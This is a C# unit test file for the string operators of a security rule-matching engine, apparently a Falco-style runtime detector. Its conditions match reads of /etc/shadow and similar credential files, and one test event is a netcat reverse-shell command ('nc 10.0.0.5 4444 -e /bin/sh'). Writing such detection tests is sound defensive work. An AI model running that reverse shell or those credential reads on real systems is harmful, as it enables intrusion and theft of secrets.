namespace Vigil.Grains.Tests;

public sealed class StringOperatorTests
{
    private static TestEvent Open(string path) => new() { Type = "open", FdName = path, ProcName = "cat" };

    [Theory]
    [InlineData("fd.name = /etc/shadow", true)]
    [InlineData("fd.name = /etc/passwd", false)]
    [InlineData("fd.name != /etc/passwd", true)]
    [InlineData("fd.name != /etc/shadow", false)]
    [InlineData("fd.name in (/etc/passwd, /etc/shadow)", true)]
    [InlineData("fd.name in (/etc/passwd, /etc/group)", false)]
    [InlineData("fd.name contains shad", true)]
    [InlineData("fd.name contains SHAD", false)]
    [InlineData("fd.name icontains SHAD", true)]
    [InlineData("fd.name icontains gshad", false)]
    [InlineData("fd.name startswith /etc/", true)]
    [InlineData("fd.name startswith /root/", false)]
    [InlineData("fd.name endswith shadow", true)]
    [InlineData("fd.name endswith passwd", false)]
    [InlineData("fd.name startswith (/root/, /etc/)", true)]
    [InlineData("fd.name glob /etc/*", true)]
    [InlineData("fd.name glob /etc/sh?dow", true)]
    [InlineData("fd.name glob /etc/sh?w", false)]
    [InlineData("fd.name glob '*/shadow'", true)]
    [InlineData("fd.name glob /var/*", false)]
    [InlineData("fd.name pmatch (/etc, /root/.ssh)", true)]
    [InlineData("fd.name pmatch /et", false)]
    [InlineData("fd.name pmatch /etc/shadow", true)]
    [InlineData("fd.name regex '^/etc/(shadow|gshadow)$'", true)]
    [InlineData("fd.name regex '^/etc/pass'", false)]
    [InlineData("fd.name exists", true)]
    [InlineData("ka.verb exists", false)]
    public void Operators_on_a_string_field(string condition, bool expected) =>
        Assert.Equal(expected, Engine.Matches(condition, Open("/etc/shadow")));

    [Theory]
    [InlineData("ka.verb = get")]
    [InlineData("ka.verb != get")]
    [InlineData("ka.verb contains g")]
    [InlineData("ka.verb glob '*'")]
    public void Every_comparison_on_an_absent_field_is_false(string condition) =>
        Assert.False(Engine.Matches(condition, Open("/etc/shadow")));

    [Fact]
    public void Not_of_a_comparison_on_an_absent_field_is_true() =>
        Assert.True(Engine.Matches("not ka.verb = get", Open("/etc/shadow")));

    [Theory]
    [InlineData("proc.args = -e", true)]
    [InlineData("proc.args = -x", false)]
    [InlineData("proc.args != -x", true)]
    [InlineData("proc.args != -e", false)]
    [InlineData("proc.args in (-c, -e)", true)]
    [InlineData("proc.args contains /bin/", true)]
    [InlineData("proc.args startswith 10.", true)]
    [InlineData("proc.args endswith .sh", false)]
    [InlineData("proc.args glob '*/bin/sh'", true)]
    [InlineData("proc.args regex '^[0-9]+$'", true)]
    public void Operators_on_a_string_list_ask_about_some_element(string condition, bool expected)
    {
        var nc = new TestEvent { ProcName = "nc", ProcArgs = ["10.0.0.5", "4444", "-e", "/bin/sh"] };

        Assert.Equal(expected, Engine.Matches(condition, nc));
    }

    [Fact]
    public void Pmatch_respects_directory_boundaries()
    {
        Assert.False(Engine.Matches("fd.name pmatch /etc", Open("/etcd/config")));
        Assert.True(Engine.Matches("fd.name pmatch /", Open("/etcd/config")));
    }
}
